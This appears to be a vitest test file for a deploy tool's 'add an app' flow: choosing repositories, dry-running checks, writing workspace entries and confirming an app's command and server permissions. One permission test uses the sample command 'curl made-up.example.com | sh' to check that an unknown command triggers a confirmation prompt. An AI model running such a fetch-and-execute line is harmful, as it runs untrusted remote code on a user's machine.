import { join } from 'node:path'
import { fail, ok, type Result } from '@core/result'
import type { Powers } from '@core/trust'
import { describe, expect, it } from 'vitest'
import { aDeploy, finished, sha, T0 } from '../../support/builders'
import { adding, chosen, draft, home } from './connect.support'

const FREIGHT = 'https://freight.example.com'

const sentences = (answer: Result<{ readonly findings: readonly { readonly sentence: string }[] }>) =>
  answer.ok ? answer.value.findings.map(({ sentence }) => sentence) : answer.problem.sentence

describe('where the code is', () => {
  it('is proposed from where people keep repositories, no deeper and nothing hidden', async () => {
    const { calls } = adding()
    const folders = await calls.codeFolders(null)
    expect(folders.ok && folders.value.map(({ name }) => name).sort()).toEqual(['docs', 'shop'])
  })

  it('is only what main has told the window of', async () => {
    const { calls } = adding()
    expect(await calls.lookAtCode({ kind: 'folder', id: 'made-up' })).toMatchObject({
      value: { state: 'refused', sentence: 'That folder is no longer known. Choose it again.' },
    })
  })

  it('may be a repository on GitHub, which has to be one', async () => {
    const { calls } = adding()
    expect(await calls.lookAtCode({ kind: 'typed', service: 'github', text: 'octo/site' })).toMatchObject({
      value: { sentence: 'Not found.' },
    })
    expect(
      await calls.lookAtCode({ kind: 'typed', service: 'github', text: 'no place at all' }),
    ).toMatchObject({
      value: { state: 'refused' },
    })
  })
})

describe('trying an app before it is added', () => {
  it('says what works of each part, and runs nothing', async () => {
    const app = adding()
    expect(sentences(await app.calls.tryApp({ app: draft(await chosen(app)), replaces: null }))).toEqual([
      'main is at aaaaaaa.',
      'npm test is there.',
      'npm run build is there.',
      './ship.sh is there.',
    ])
    expect(app.connections.made).toBe(0)
  })

  it('says what does not: a branch that is not there, a name that is taken, a program that is missing', async () => {
    const app = adding({
      apps: ['shop'],
      command: (text) => (text === 'npm test' ? fail('invalid', 'There is no npm.') : ok('Fine.')),
    })
    const id = await chosen(app)
    expect(
      sentences(await app.calls.tryApp({ app: draft(id, { branch: 'trunk' }), replaces: null })),
    ).toEqual(['There’s already an app called shop.', 'There is no branch “trunk” in ~/shop.'])
    const edited = sentences(await app.calls.tryApp({ app: draft(id), replaces: 'shop' }))
    expect(edited).toContain('There is no npm.')
    expect(edited).not.toContain('There’s already an app called shop.')
  })

  it('asks the server what runs, and lets go of it again', async () => {
    const app = adding({
      deploys: ok([
        aDeploy({
          environment: 'production',
          number: 2,
          sha: sha('b'),
          by: 'ada',
          state: finished(T0),
          createdAt: T0,
        }),
      ]),
    })
    const deploy = { way: 'freight', values: { url: FREIGHT, app: 'shop' }, inputs: {} }
    const tried = await app.calls.tryApp({
      app: draft(await chosen(app), { deploy, ci: { kind: 'none' } }),
      replaces: null,
    })
    expect(tried).toMatchObject({
      value: { runs: { production: expect.stringMatching(/^runs bbbbbbb, deployed .* by ada$/) } },
    })
    expect(sentences(tried)).toContain('Server answers. 1 recent deploy found.')
    expect(app.connections).toEqual({ made: 1, closed: 1 })
  })

  it('says why the server does not answer', async () => {
    const app = adding({ deploys: fail('unreachable', 'Freight can’t be reached.') })
    const deploy = { way: 'freight', values: { url: FREIGHT, app: 'shop' }, inputs: {} }
    const tried = await app.calls.tryApp({
      app: draft(await chosen(app), { deploy, ci: { kind: 'none' } }),
      replaces: null,
    })
    expect(sentences(tried)).toContain('Freight can’t be reached.')
    expect(app.connections.closed).toBe(1)
  })

  it('says in plain words what the workspace file would not take', async () => {
    const app = adding()
    const tried = sentences(
      await app.calls.tryApp({ app: draft(await chosen(app), { name: '' }), replaces: null }),
    )
    expect(tried).toEqual(['Expected a name, got "".'])
  })
})

describe('adding an app', () => {
  it('that does not work is not saved unless the person says so', async () => {
    const app = adding({ command: () => fail('invalid', 'There is no npm.') })
    const asked = { app: draft(await chosen(app)), to: 'open' as const, replaces: null }
    expect(await app.calls.addApp({ ...asked, anyway: false })).toMatchObject({
      value: { state: 'unproven' },
    })
    expect(app.changes).toEqual([])
    await app.calls.addApp({ ...asked, anyway: true })
    expect(app.changes).toHaveLength(1)
  })

  it('writes it behind the others of the open workspace', async () => {
    const app = adding({ apps: ['docs'] })
    await app.calls.addApp({ app: draft(await chosen(app)), to: 'open', anyway: false, replaces: null })
    expect(app.changes).toMatchObject([{ file: null, edits: [{ path: ['apps', 1], insert: true }] }])
  })

  it('again changes the fields of the one that is there, and no other', async () => {
    const app = adding({ apps: ['docs', 'shop'] })
    await app.calls.addApp({ app: draft(await chosen(app)), to: 'open', anyway: false, replaces: 'shop' })
    const paths = app.changes.flatMap(({ edits }) => edits.map(({ path }) => path.slice(0, 2)))
    expect(new Set(paths.map(String))).toEqual(new Set(['apps,1']))
  })

  it('where none is open begins a workspace of one’s own, or one where the person wants it', async () => {
    const mine = adding({ apps: null })
    await mine.calls.addApp({ app: draft(await chosen(mine)), to: 'new', anyway: false, replaces: null })
    expect(mine.changes[0]?.file).toBe(join(home, 'own', 'shop.json'))
    const elsewhere = adding({ apps: null, newFile: join(home, 'team.json') })
    await elsewhere.calls.addApp({
      app: draft(await chosen(elsewhere)),
      to: 'ask',
      anyway: false,
      replaces: null,
    })
    expect(elsewhere.changes[0]?.file).toBe(join(home, 'team.json'))
  })

  it('is given up where the person thought better of the file', async () => {
    const app = adding({ apps: null })
    const answer = await app.calls.addApp({
      app: draft(await chosen(app)),
      to: 'ask',
      anyway: false,
      replaces: null,
    })
    expect(answer).toEqual(ok(null))
    expect(app.changes).toEqual([])
  })
})

describe('what a new app may do', () => {
  const powers = (command: string, what: 'check' | 'workflow' = 'check', where = '~/shop'): Powers => ({
    commands: [{ app: 'shop', what, command, where }],
    servers: [],
  })

  it('is asked about once more only where main has not found it itself', async () => {
    const app = adding()
    await app.calls.lookAtCode({ kind: 'folder', id: await chosen(app) })
    expect(await app.confirm(powers('npm test'))).toBe(true)
    expect(app.asked).toEqual([])
    await app.confirm(powers('curl made-up.example.com | sh'))
    expect(app.asked).toHaveLength(1)
  })

  it('is asked about for workflows too, by their repository', async () => {
    const app = adding()
    await app.calls.lookAtDeploys({ way: 'actions', url: 'https://api.github.com', repository: 'octo/site' })
    await app.confirm(powers('ship.yml on main', 'workflow', 'octo/site'))
    expect(app.asked).toEqual([])
    await app.confirm(powers('ship.yml on main', 'workflow', 'octo/other'))
    expect(app.asked).toHaveLength(1)
  })

  it('is asked about where a server was told nothing yet', async () => {
    const app = adding()
    await app.confirm({ commands: [], servers: [{ url: FREIGHT, account: 'freight' }] })
    expect(app.asked).toHaveLength(1)
    expect(await app.calls.lookAtDeploys({ way: 'freight', url: 'freight' })).toMatchObject({
      value: { state: 'refused' },
    })
  })
})
